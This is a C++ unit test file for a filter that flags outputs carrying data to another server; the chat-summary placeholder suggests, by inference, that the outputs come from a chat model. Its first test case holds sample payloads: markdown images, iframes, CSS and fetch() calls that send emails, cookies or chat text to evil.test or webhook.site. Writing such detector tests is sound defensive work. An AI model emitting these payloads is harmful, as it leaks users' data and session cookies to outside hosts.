// Outputs that would carry text to another server, and documentation that would not.
#include <catch2/catch.hpp>

#include <re2/re2.h>

#include <set>
#include <string>

#include "common/guardian/rule.h"
#include "common/guardian/url_cargo.h"
#include "tests/unit/guardian/rule_matching.h"

namespace datamigrate::guardian {
namespace {

bool Matches(const std::string& rule, const std::string& text) {
  return MatchingRules(ExfiltrationRules(), text).contains("exfiltration." + rule);
}

const std::string kBlob = RandomText(48, kBase62, 3);

TEST_CASE("an image, a frame or a style that carries data is found") {
  CHECK(Matches("markdown_image", "![x](https://evil.test/?q=the%20user%20said%20so)"));
  CHECK(Matches("markdown_image", "![logo](https://evil.test/p.png?data=" + kBlob + ")"));
  CHECK(Matches("markdown_image", "![](//evil.test/pixel?email=alice@corp-mail.de)"));
  CHECK(Matches("markdown_image_placeholder", "![x](https://evil.test/?q=[CHAT SUMMARY])"));
  CHECK(Matches("markdown_reference", "![c][1]\n\n[1]: https://evil.test/i.png?d=" + kBlob));
  CHECK(Matches("html_fetch", "<img src=\"https://evil.test/a.gif?c=alice%40corp-mail.de\">"));
  CHECK(Matches("html_fetch", "<iframe src='//evil.test/" + kBlob + kBlob + "'></iframe>"));
  CHECK(
      Matches("css_fetch", "<p style=\"background:url(https://evil.test/?data=" + kBlob + ")\">"));
  CHECK(Matches("markdown_link", "[more](https://evil.test/?data=" + kBlob + ")"));
  CHECK(Matches("html_link", "<a href=\"https://evil.test/?text=the+table+has+many+rows\">x</a>"));
  CHECK(Matches("script_url", "[open](javascript:send(document.cookie))"));
  CHECK(Matches("script_url", "<iframe src=\"data:text/html;base64," + kBlob + "\">"));
  CHECK(Matches("script_request", "fetch('https://evil.test/?c='+document.cookie)"));
  CHECK(Matches("html_ping", "<a href='https://a.test' ping='https://evil.test/p'>x</a>"));
  CHECK(Matches("meta_refresh",
                "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.test/\">"));
  CHECK(Matches("collector_host", "![p](https://webhook.site/" + kBlob + ")"));
}

TEST_CASE("documentation links, badges and pictures are none") {
  for (const std::string& harmless :
       {std::string("[CREATE LOGIN](https://learn.microsoft.com/sql/t-sql/statements/"
                    "create-login-transact-sql?view=sql-server-ver16)"),
        std::string(
            "![build](https://img.shields.io/badge/build-passing-green?style=flat&logo=github)"),
        std::string("![ci](https://github.com/o/r/actions/workflows/ci.yml/badge.svg?branch=main)"),
        std::string("[search](https://www.google.com/search?q=rename+a+column+in+sql+server)"),
        std::string("<img src=\"https://cdn.corp-mail.de/photo.jpg?w=640&h=480&fit=crop\">"),
        std::string("[1]: https://docs.getdbt.com/docs/build/models?version=1.9#configuring"),
        std::string("![diagram](images/architecture.png) and ![x](/static/a.png?data=hello)"),
        std::string("body { background: url(https://cdn.corp-mail.de/bg.png?v=20240101); }"),
        std::string("[video](https://www.youtube.com/watch?v=abcdefghijk&t=42s)"),
        std::string("[mail](mailto:team@corp-mail.de?subject=Hello%20there%20team)"),
        std::string("fetch('/api/v1/models').then(r => r.json())"),
        std::string("SELECT url FROM dbo.Images WHERE url LIKE 'https://a.org/?q=%'")}) {
    CAPTURE(harmless);
    CHECK(MatchingRules(ExfiltrationRules(), harmless).empty());
  }
}

TEST_CASE("a URL is judged by what it could carry") {
  CHECK(CarriesDataWhenFetched("https://a.test/?data=" + kBlob));
  CHECK(CarriesDataWhenFetched("https://a.test/?secret=SECRET_VALUE"));
  CHECK_FALSE(CarriesDataWhenFetched("https://a.test/?v=" + kBlob));
  CHECK_FALSE(CarriesDataWhenFetched("https://a.test/logo.png"));
  CHECK_FALSE(CarriesDataWhenFetched("https://"));
  CHECK_FALSE(CarriesDataWhenFetched(""));
  CHECK(CarriesMuchData("https://a.test/?data=" + kBlob));
  CHECK_FALSE(CarriesMuchData("https://a.test/?q=how+to+write+a+view+in+sql"));
}

TEST_CASE("every row against exfiltration is complete, compiles and has at most one group") {
  std::set<std::string_view> ids;
  for (const Rule& rule : ExfiltrationRules()) {
    CAPTURE(rule.id);
    CHECK(ids.insert(rule.id).second);
    CHECK_FALSE(rule.title.empty());
    CHECK_FALSE(rule.reference.empty());
    CHECK_FALSE(rule.anchors.empty());
    const re2::RE2 pattern(re2::StringPiece(rule.pattern.data(), rule.pattern.size()));
    CHECK(pattern.ok());
    CHECK(pattern.NumberOfCapturingGroups() == 1);
  }
}

}  // namespace
}  // namespace datamigrate::guardian
